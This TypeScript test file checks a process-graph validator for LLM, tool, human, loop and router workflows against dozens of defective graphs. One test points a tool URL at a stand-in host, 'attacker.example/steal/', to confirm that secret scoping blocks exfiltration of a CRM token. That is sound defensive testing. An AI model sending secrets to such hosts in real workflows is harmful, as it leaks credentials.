import { describe, expect, it } from "vitest";
import type { ProcessGraph } from "../graph/process-graph";
import type { Node, NodeOf } from "../graph/nodes";
import { baseGraph, humanGraph, loopGraph, parallelGraph, tiers } from "../testing/graphs";
import type { ValidationContext } from "./diagnostic";
import { validateGraph } from "./validate-graph";

function node<K extends Node["kind"]>(g: ProcessGraph, id: string, _kind?: K): NodeOf<K> {
  const found = g.nodes.find((n) => n.id === id);
  if (!found) throw new Error(`no node ${id}`);
  return found as NodeOf<K>;
}
const dropEdge = (g: ProcessGraph, id: string) => (g.edges = g.edges.filter((e) => e.id !== id));
const edge = (g: ProcessGraph, id: string) => g.edges.find((e) => e.id === id)!;

interface Case {
  code: string;
  severity?: "error" | "warning" | "info";
  base?: () => ProcessGraph;
  ctx?: ValidationContext;
  mutate: (g: ProcessGraph) => void;
  /** Text the message must contain (it names the node, the field, expected and found). */
  says?: string[];
}

const cases: Case[] = [
  { code: "schema-invalid", mutate: (g) => delete (node(g, "classify") as Partial<NodeOf<"llm">>).prompt, says: ["nodes.1.prompt"] },
  { code: "duplicate-node-id", mutate: (g) => g.nodes.push({ id: "done", kind: "end", name: "Other done" }) },
  { code: "duplicate-edge-id", mutate: (g) => g.edges.push({ ...edge(g, "e6"), target: "draft" }) },
  { code: "trigger-missing", mutate: (g) => ((g.nodes = g.nodes.filter((n) => n.id !== "start")), dropEdge(g, "e1")) },
  {
    code: "trigger-multiple",
    mutate: (g) => {
      g.nodes.push({ id: "start2", kind: "trigger", name: "Second", inputSchema: { type: "object", properties: {} } });
      g.edges.push({ id: "e9", source: "start2", target: "classify" });
    },
  },
  { code: "trigger-incoming-edge", mutate: (g) => g.edges.push({ id: "e9", source: "route", target: "start", kind: "branch", when: { op: "eq", value: "b" } }) },
  { code: "end-missing", mutate: (g) => ((g.nodes = g.nodes.filter((n) => n.kind !== "end")), dropEdge(g, "e4"), dropEdge(g, "e6")) },
  { code: "edge-dangling", mutate: (g) => g.edges.push({ id: "e9", source: "draft", target: "ghost" }), says: ['unknown target "ghost"'] },
  { code: "node-unreachable", severity: "warning", mutate: (g) => g.nodes.push({ id: "orphan", kind: "end", name: "Orphan" }) },
  { code: "node-dead-end", mutate: (g) => dropEdge(g, "e6"), says: ['"Draft" (draft)'] },
  { code: "node-next-ambiguous", mutate: (g) => g.edges.push({ id: "e9", source: "lookup", target: "done" }) },
  { code: "node-next-missing", mutate: (g) => (edge(g, "e6").kind = "error") },
  { code: "edge-kind-invalid", mutate: (g) => g.edges.push({ id: "e9", source: "classify", target: "done", kind: "timeout" }) },
  { code: "edge-when-ignored", severity: "warning", mutate: (g) => (edge(g, "e6").when = { op: "eq", value: "x" }) },
  { code: "cycle-unguarded", mutate: (g) => (edge(g, "e6").target = "classify"), says: ['"Classify"', '"Draft"'] },
  { code: "loop-back-invalid", mutate: (g) => ((edge(g, "e6").target = "classify"), (edge(g, "e6").kind = "loop-back")) },
  { code: "loop-max-iterations-missing", base: loopGraph, mutate: (g) => delete node(g, "repeat", "loop").maxIterations },
  { code: "loop-exit-condition-missing", severity: "warning", base: loopGraph, mutate: (g) => delete node(g, "repeat", "loop").exitWhen },
  { code: "loop-back-edge-missing", base: loopGraph, mutate: (g) => (edge(g, "e3").target = "done") },
  { code: "loop-exit-missing", base: loopGraph, mutate: (g) => dropEdge(g, "e4") },
  { code: "loop-body-missing", base: loopGraph, mutate: (g) => (edge(g, "e2").sourceHandle = "exit") },
  { code: "loop-edge-handle-invalid", base: loopGraph, mutate: (g) => g.edges.push({ id: "e9", source: "repeat", target: "done" }) },
  { code: "parallel-join-missing", base: parallelGraph, mutate: (g) => (edge(g, "e5").target = "done") },
  { code: "parallel-single-branch", severity: "warning", base: parallelGraph, mutate: (g) => ((edge(g, "e3").source = "left"), (edge(g, "e4").source = "right")) },
  { code: "join-single-input", severity: "warning", base: parallelGraph, mutate: (g) => (edge(g, "e5").target = "done") },
  { code: "human-timeout-branch-missing", base: humanGraph, mutate: (g) => dropEdge(g, "e6"), says: ["1h"] },
  { code: "human-timeout-missing", severity: "warning", base: humanGraph, mutate: (g) => delete node(g, "review", "human").timeout },
  { code: "human-escalate-after-timeout", base: humanGraph, mutate: (g) => (node(g, "review", "human").escalateTo = { role: "operator", after: "2h" }), says: ["2h", "1h"] },
  { code: "human-escalate-same-role", severity: "warning", base: humanGraph, mutate: (g) => (node(g, "review", "human").escalateTo = { role: "reviewer", after: "30m" }) },
  { code: "human-decision-edge-missing", base: humanGraph, mutate: (g) => dropEdge(g, "e3") },
  { code: "human-decision-edge-multiple", base: humanGraph, mutate: (g) => g.edges.push({ id: "e9", source: "review", target: "late", sourceHandle: "approve" }) },
  { code: "human-decision-duplicate", base: humanGraph, mutate: (g) => node(g, "review", "human").decisions.push({ id: "approve", type: "approve" }) },
  { code: "human-edge-unknown-decision", base: humanGraph, mutate: (g) => (edge(g, "e5").sourceHandle = "maybe") },
  { code: "human-edit-without-subject", base: humanGraph, mutate: (g) => delete node(g, "review", "human").subject },
  { code: "human-subject-invalid", base: humanGraph, mutate: (g) => (node(g, "review", "human").subject = "ghost") },
  { code: "router-not-exhaustive", mutate: (g) => dropEdge(g, "e4"), says: ['"b", "c"', "steps.classify.output.category"] },
  {
    code: "router-not-exhaustive",
    says: ["false"],
    mutate: (g) => {
      node(g, "route", "router").source = "steps.classify.output.urgent";
      edge(g, "e3").when = { op: "eq", value: true };
      dropEdge(g, "e4");
    },
  },
  {
    code: "router-not-exhaustive",
    says: ["numbers such as 0.5"],
    mutate: (g) => {
      node(g, "route", "router").source = "steps.classify.output.confidence";
      edge(g, "e3").when = { op: "range", lt: 0.5 };
      edge(g, "e4").kind = "branch";
      edge(g, "e4").when = { op: "range", gt: 0.5 };
    },
  },
  { code: "router-branch-type", mutate: (g) => (edge(g, "e3").when = { op: "eq", value: "zzz" }), says: ['"zzz"', 'enum("a" | "b" | "c")'] },
  { code: "router-branch-type", mutate: (g) => (edge(g, "e3").when = { op: "range", gte: 1 }) },
  { code: "router-branch-when-missing", mutate: (g) => delete edge(g, "e3").when },
  { code: "router-branch-overlap", severity: "warning", mutate: (g) => g.edges.push({ id: "e9", source: "route", target: "done", kind: "branch", when: { op: "in", values: ["a", "b"] } }) },
  { code: "router-source-type", mutate: (g) => (node(g, "route", "router").source = "input.ticket.body"), says: ["string", "enum"] },
  { code: "router-source-invalid", mutate: (g) => (node(g, "route", "router").source = "foo.bar") },
  { code: "router-unmatched-multiple", mutate: (g) => g.edges.push({ id: "e9", source: "route", target: "done", kind: "unmatched" }) },
  {
    code: "ref-unknown-field",
    mutate: (g) => (node(g, "draft", "llm").prompt = "{{ steps.classify.output.categroy }}"),
    says: ['"Draft" (draft)', "steps.classify.output.categroy", 'has no field "categroy"'],
  },
  { code: "ref-unknown-field", mutate: (g) => (node(g, "classify", "llm").prompt = "{{ input.ticket.title }}"), says: ["the trigger input", '"ticket"'] },
  { code: "ref-unknown-step", mutate: (g) => (node(g, "draft", "llm").prompt = "{{ steps.nope.output.x }}") },
  { code: "ref-not-upstream", mutate: (g) => (node(g, "classify", "llm").prompt = "{{ steps.draft.output.text }}"), says: ['"Draft" (draft) is not upstream'] },
  { code: "ref-maybe-skipped", severity: "warning", mutate: (g) => (node(g, "done", "end").output = { text: "{{ steps.draft.output.text }}" }) },
  { code: "ref-no-output", mutate: (g) => (node(g, "draft", "llm").prompt = "{{ steps.route.output.x }}") },
  { code: "ref-invalid", mutate: (g) => (node(g, "draft", "llm").prompt = "{{ foo.bar }}") },
  { code: "ref-invalid", mutate: (g) => (node(g, "draft", "llm").prompt = "{{ output.text }}") },
  { code: "ref-invalid", mutate: (g) => (node(g, "draft", "llm").prompt = "{{ input.ticket.body }") },
  { code: "secret-not-allowed", mutate: (g) => (node(g, "draft", "llm").prompt = "key {{ secrets.CRM_TOKEN }}") },
  { code: "secret-unknown", ctx: { ...tiers, secrets: ["OTHER"] }, mutate: () => {}, says: ['"CRM_TOKEN"'] },
  // A graph editor must not be able to send a secret to their own server (issue 7, item 7).
  {
    code: "secret-url-not-allowed",
    ctx: { ...tiers, secretScopes: { CRM_TOKEN: ["https://crm.example.com/tickets/"] } },
    mutate: (g) => (node(g, "lookup", "tool").contract.url = "https://attacker.example/steal/{{ input.ticket.id }}"),
    says: ['"CRM_TOKEN"', "https://attacker.example/steal/", '"https://crm.example.com/tickets/"', "https://attacker.example"],
  },
  {
    code: "secret-url-not-allowed",
    ctx: { ...tiers, secretScopes: { CRM_TOKEN: [] } },
    mutate: () => {},
    says: ['"CRM_TOKEN"', "not allowed to be sent anywhere"],
  },
  {
    code: "secret-url-host-templated",
    ctx: { ...tiers, secretScopes: { CRM_TOKEN: ["crm.example.com"] } },
    mutate: (g) => (node(g, "lookup", "tool").contract.url = "https://{{ input.ticket.subject }}/tickets"),
    says: ['"CRM_TOKEN"', "not written literally"],
  },
  {
    code: "tool-input-type-mismatch",
    mutate: (g) => (node(g, "lookup", "tool").input.count = "{{ input.ticket.body }}"),
    says: ["{{ input.ticket.body }} (string)", '"count"', "expects integer"],
  },
  { code: "tool-input-type-mismatch", mutate: (g) => (node(g, "lookup", "tool").input.count = "n={{ input.priority }}") },
  { code: "tool-input-type-narrowing", severity: "warning", mutate: (g) => (node(g, "lookup", "tool").input.count = "{{ steps.classify.output.confidence }}") },
  { code: "tool-input-missing-required", mutate: (g) => delete node(g, "lookup", "tool").input.id, says: ['"id"'] },
  { code: "tool-input-unknown-field", mutate: (g) => (node(g, "lookup", "tool").input.bogus = "x") },
  { code: "expression-invalid", mutate: (g) => (node(g, "classify", "llm").policy = { escalation: { conditions: [{ kind: "expression", expr: "output.confidence <" }] } }) },
  {
    code: "expression-invalid",
    says: ['"zzz" is not one of its values'],
    mutate: (g) => (node(g, "classify", "llm").policy = { escalation: { conditions: [{ kind: "expression", expr: 'output.category == "zzz"' }] } }),
  },
  { code: "expression-invalid", mutate: (g) => (node(g, "classify", "llm").policy = { escalation: { conditions: [{ kind: "expression", expr: "output.category < 3" }] } }) },
  { code: "ref-unknown-field", mutate: (g) => (node(g, "classify", "llm").policy = { escalation: { conditions: [{ kind: "expression", expr: "output.confidance < 0.7" }] } }) },
  { code: "tier-unconfigured", ctx: { tiers: { light: "openai/gpt-4.1-mini" } }, mutate: () => {}, says: ['tier "mid"', "light → openai/gpt-4.1-mini"] },
  { code: "model-unknown", severity: "warning", ctx: { ...tiers, knownModels: ["openai/gpt-4.1-mini"] }, mutate: () => {} },
  { code: "budget-branch-missing", mutate: (g) => (g.settings = { budget: { perRunUsd: 1, onBreach: "branch" } }) },
  { code: "budget-edge-unused", severity: "warning", mutate: (g) => g.edges.push({ id: "e9", source: "draft", target: "done", kind: "budget" }) },
  { code: "tier-unconfigured", ctx: { tiers: { light: "openai/gpt-4.1-mini", mid: "openai/gpt-4.1" } }, mutate: (g) => (g.settings = { budget: { perRunUsd: 1, onBreach: "fallback", fallbackTier: "strong" } }) },
  { code: "step-budget-above-run", severity: "info", mutate: (g) => ((g.settings = { budget: { perRunUsd: 1, onBreach: "fail" } }), (node(g, "draft", "llm").policy = { budgetUsd: 2 })) },
  { code: "budget-without-models", severity: "info", base: parallelGraph, mutate: (g) => (g.settings = { budget: { perRunUsd: 1, onBreach: "fail" } }) },
  {
    code: "subprocess-unknown",
    ctx: { ...tiers, processes: ["other"] },
    mutate: (g) => {
      g.nodes.push({ id: "sub", kind: "subprocess", name: "Sub", process: "missing", input: {} });
      edge(g, "e6").target = "sub";
      g.edges.push({ id: "e9", source: "sub", target: "done" });
    },
  },
  {
    code: "subprocess-recursive",
    severity: "warning",
    mutate: (g) => {
      g.nodes.push({ id: "sub", kind: "subprocess", name: "Sub", process: "test-process", input: {} });
      edge(g, "e6").target = "sub";
      g.edges.push({ id: "e9", source: "sub", target: "done" });
    },
  },
  {
    code: "ref-untyped",
    severity: "info",
    mutate: (g) => {
      g.nodes.push({ id: "sub", kind: "subprocess", name: "Sub", process: "other", input: {} });
      edge(g, "e6").target = "sub";
      g.edges.push({ id: "e9", source: "sub", target: "done" });
      node(g, "done", "end").output = { x: "{{ steps.sub.output.anything }}" };
    },
  },
  {
    code: "process-single-step",
    severity: "warning",
    mutate: (g) => {
      g.nodes = g.nodes.filter((n) => ["start", "classify", "done"].includes(n.id));
      g.edges = [
        { id: "e1", source: "start", target: "classify" },
        { id: "e2", source: "classify", target: "done" },
      ];
    },
    says: ["does not need an orchestrator", "simpler"],
  },
  {
    code: "process-empty",
    severity: "warning",
    mutate: (g) => {
      g.nodes = g.nodes.filter((n) => ["start", "done"].includes(n.id));
      node(g, "done", "end").output = {};
      g.edges = [{ id: "e1", source: "start", target: "done" }];
    },
  },
];

describe("validateGraph", () => {
  it.each([
    ["base", baseGraph],
    ["loop", loopGraph],
    ["parallel all", () => parallelGraph("all")],
    ["human", humanGraph],
  ])("accepts the %s fixture without any diagnostic", (_name, make) => {
    expect(validateGraph(make(), tiers)).toEqual([]);
  });

  it.each(cases.map((c, i) => [`${c.code} #${i}`, c] as const))("reports %s", (_name, c) => {
    const g = (c.base ?? baseGraph)();
    c.mutate(g);
    const diagnostics = validateGraph(g, c.ctx ?? tiers);
    const found = diagnostics.filter((d) => d.code === c.code);
    expect(found, JSON.stringify(diagnostics, null, 2)).not.toHaveLength(0);
    for (const d of found) {
      expect(d.severity).toBe(c.severity ?? "error");
      expect(d.message.length).toBeGreaterThan(20);
      expect(d.hint.length).toBeGreaterThan(10);
    }
    for (const text of c.says ?? []) expect(found.map((d) => d.message).join("\n")).toContain(text);
  });

  it("warns that after a join \"any\" a branch output may be missing", () => {
    expect(validateGraph(parallelGraph("any"), tiers).map((d) => [d.code, d.nodeId])).toEqual([["ref-maybe-skipped", "done"]]);
  });

  it("covers every enum value with branches and no unmatched edge", () => {
    const g = baseGraph();
    edge(g, "e4").kind = "branch";
    edge(g, "e4").when = { op: "in", values: ["b", "c"] };
    expect(validateGraph(g, tiers)).toEqual([]);
  });

  it("accepts numeric ranges that cover every number", () => {
    const g = baseGraph();
    node(g, "route", "router").source = "steps.classify.output.score";
    edge(g, "e3").when = { op: "range", lt: 5 };
    edge(g, "e4").kind = "branch";
    edge(g, "e4").when = { op: "range", gte: 5 };
    expect(validateGraph(g, tiers)).toEqual([]);
    edge(g, "e4").when = { op: "range", gt: 5 };
    expect(validateGraph(g, tiers).map((d) => d.message).join()).toContain("numbers such as 5");
  });

  it("lets loop exit conditions and later steps read body outputs", () => {
    const diagnostics = validateGraph(loopGraph(), tiers);
    expect(diagnostics).toEqual([]);
  });

  it("is deterministic and independent of node and edge order", () => {
    const g = baseGraph();
    node(g, "draft", "llm").prompt = "{{ steps.nope.output.x }} {{ steps.classify.output.zzz }}";
    dropEdge(g, "e4");
    g.nodes.push({ id: "orphan", kind: "end", name: "Orphan" });
    const first = validateGraph(g, tiers);
    const shuffled = { ...g, nodes: [...g.nodes].reverse(), edges: [...g.edges].reverse() };
    expect(validateGraph(shuffled, tiers)).toEqual(first);
    expect(validateGraph(g, tiers)).toEqual(first);
    expect(first.map((d) => d.severity)).toEqual([...first.map((d) => d.severity)].sort((a, b) => ["error", "warning", "info"].indexOf(a) - ["error", "warning", "info"].indexOf(b)));
  });

  it("points schema errors at the node they come from", () => {
    const g = baseGraph() as unknown as { nodes: Array<Record<string, unknown>> };
    g.nodes[1]!.temperature = 7;
    const [d] = validateGraph(g, tiers);
    expect(d).toMatchObject({ code: "schema-invalid", nodeId: "classify" });
  });
});
